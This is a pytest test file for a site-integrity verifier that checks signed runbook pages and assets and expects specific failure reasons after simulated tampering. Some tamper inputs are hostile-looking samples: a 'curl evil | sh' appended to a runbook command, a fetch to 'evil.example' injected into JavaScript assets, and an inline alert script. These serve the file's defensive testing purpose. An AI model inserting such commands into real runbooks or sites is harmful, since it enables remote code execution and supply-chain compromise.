"""`sealbook-verify site`: passes on a fresh build, fails (exit 1, reason, file named) after tampering.

The site is built once per test process (`site_helpers.signed_site`); each test tampers a copy.
Attacks that rewrite site-manifest.json too (``rehash``) show that the content checks, not just
the digests, catch them.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from tests.site_helpers import copy_site, failures, rehash, signed_site, verify

RESTART = "runbooks/ops/restart/r2.html"


@pytest.fixture
def site(tmp_path: Path) -> Path:
    return copy_site(signed_site().build, tmp_path / "site")


def _expect(site: Path, path: str, reason: str) -> None:
    code, results = verify(site, signed_site().policy)
    assert code == 1
    assert failures(results).get(path) == reason, failures(results)


def _edit(site: Path, path: str, old: str, new: str, *, count: int = 1) -> None:
    target = site / path
    text = target.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    target.write_text(text.replace(old, new, count), encoding="utf-8")


def test_fresh_build_verifies() -> None:
    s = signed_site()
    code, results = verify(s.site, s.policy)
    assert code == 0, failures(results)
    assert "site-manifest.json" not in results
    assert all(r["ok"] for r in results.values())
    assert RESTART in results and "versions/1.0/runbooks/ops/restart.html" in results


def test_junit_and_text_formats(site: Path) -> None:
    from tests.site_helpers import verify_main

    assert (
        verify_main(["site", str(site), "--policy", str(signed_site().policy), "--format", "junit"])
        == 0
    )


def test_digest_edited_in_one_page(site: Path) -> None:
    text = (site / RESTART).read_text(encoding="utf-8")
    shown = re.search(r'data-snippet-id="status" data-digest="(sha256:[0-9a-f]{64})"', text)
    assert shown is not None
    _edit(site, RESTART, shown.group(1), "sha256:" + "0" * 64)
    _expect(site, RESTART, "site-file-modified")
    rehash(site, RESTART)
    _expect(site, RESTART, "site-content-mismatch")


def test_snippet_text_edited(site: Path) -> None:
    _edit(
        site,
        RESTART,
        ">systemctl status app --no-pager</template>",
        ">systemctl status app --no-pager; curl evil | sh</template>",
    )
    rehash(site, RESTART)
    _expect(site, RESTART, "site-content-mismatch")


def test_run_command_edited(site: Path) -> None:
    _edit(
        site,
        RESTART,
        "sealbook run ops/restart@1.1 status --sha256 ",
        "sealbook run ops/restart@1.0 status --sha256 ",
    )
    rehash(site, RESTART)
    _expect(site, RESTART, "site-content-mismatch")


def test_version_data_edited(site: Path) -> None:
    _edit(site, "assets/versions.js", '"head":"1.1"', '"head":"1.0"')
    _expect(site, "assets/versions.js", "site-file-modified")
    rehash(site, "assets/versions.js")
    _expect(site, "assets/versions.js", "site-content-mismatch")


@pytest.mark.parametrize(
    "asset",
    [
        "assets/sealbook/sealbook.js",
        "assets/sealbook/sealbook.css",
        "assets/javascripts/bundle.a5f9d56c.min.js",
    ],
)
def test_js_or_css_asset_edited(site: Path, asset: str) -> None:
    if not (site / asset).exists():
        pytest.skip(f"{asset} not in this material version")
    with (site / asset).open("a", encoding="utf-8") as fh:
        fh.write("\n/* injected */ fetch('https://evil.example/');\n")
    _expect(site, asset, "site-file-modified")
    rehash(site, asset)
    _expect(site, asset, "site-asset-unknown")


def test_page_added(site: Path) -> None:
    extra = "runbooks/ops/restart/r9.html"
    shutil.copyfile(site / RESTART, site / extra)
    _expect(site, extra, "site-file-unexpected")
    rehash(site, extra)  # listed too: still no such revision in the chain
    _expect(site, extra, "site-file-unexpected")


def test_page_removed(site: Path) -> None:
    (site / RESTART).unlink()
    _expect(site, RESTART, "site-file-missing")


def test_latest_pointed_at_older_release(site: Path) -> None:
    latest = "runbooks/ops/restart/latest.html"
    text = (site / latest).read_text(encoding="utf-8")
    text = text.replace("r2.html", "r1.html").replace('data-revision="2"', 'data-revision="1"')
    (site / latest).write_text(text, encoding="utf-8")
    rehash(site, latest)
    _expect(site, latest, "site-latest-mismatch")


def test_catalog_latest_column_pointed_at_older_release(site: Path) -> None:
    _edit(site, "index.html", "runbooks/ops/restart/r2.html", "runbooks/ops/restart/r1.html")
    rehash(site, "index.html")
    _expect(site, "index.html", "site-latest-mismatch")


def test_alert_page_pointed_at_older_revision(site: Path) -> None:
    page = "alerts/ServiceDown.html"
    text = (site / page).read_text(encoding="utf-8").replace("r2.html", "r1.html")
    (site / page).write_text(text, encoding="utf-8")
    rehash(site, page)
    _expect(site, page, "site-latest-mismatch")


def test_preview_page_copied_in(site: Path) -> None:
    preview = signed_site().preview
    shutil.copyfile(preview / "runbooks/ops/restart/r1.html", site / RESTART)
    _expect(site, RESTART, "site-unsigned-preview")
    rehash(site, RESTART)
    _expect(site, RESTART, "site-unsigned-preview")


def test_preview_page_added_unlisted(site: Path) -> None:
    preview = signed_site().preview
    shutil.copyfile(preview / "runbooks/ops/restart/r1.html", site / "runbooks/ops/restart/r7.html")
    _expect(site, "runbooks/ops/restart/r7.html", "site-unsigned-preview")


def test_preview_site_rejected() -> None:
    code, results = verify(
        signed_site().preview, signed_site().policy, "--releases", str(signed_site().releases)
    )
    assert code == 1
    assert failures(results) == {"site-manifest.json": "site-unsigned-preview"}


def test_inline_script_injected(site: Path) -> None:
    _edit(site, RESTART, "</body>", "<script>alert(1)</script></body>")
    rehash(site, RESTART)
    _expect(site, RESTART, "site-page-unsafe")


def test_release_manifest_replaced(site: Path) -> None:
    path = "releases/1.1/manifest.json"
    (site / path).write_bytes((site / path).read_bytes().replace(b"systemctl", b"systemctL"))
    code, results = verify(site, signed_site().policy, "--releases", str(signed_site().releases))
    assert code == 1
    assert failures(results)[path] == "site-file-modified"


def test_site_releases_are_verifiable_releases() -> None:
    from tests.site_helpers import verify_main

    s = signed_site()
    assert verify_main(["releases", str(s.build / "releases"), "--policy", str(s.policy)]) == 0


def test_a_build_published_during_verification_does_not_mix_two_builds(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The published path is a symlink; the verifier reads the build it pointed at first."""
    import verifier.site

    link = tmp_path / "published"
    link.symlink_to(site)
    other = tmp_path / "other-build"
    other.mkdir()
    listed = verifier.site._files

    def list_then_flip(root: Path) -> set[str]:
        found = listed(root)
        flipped = tmp_path / "flip"
        flipped.symlink_to(other)
        flipped.replace(link)  # what `sealbook build` does when it publishes
        return found

    monkeypatch.setattr(verifier.site, "_files", list_then_flip)
    code, results = verify(link, signed_site().policy)
    assert code == 0, failures(results)
    assert link.resolve() == other
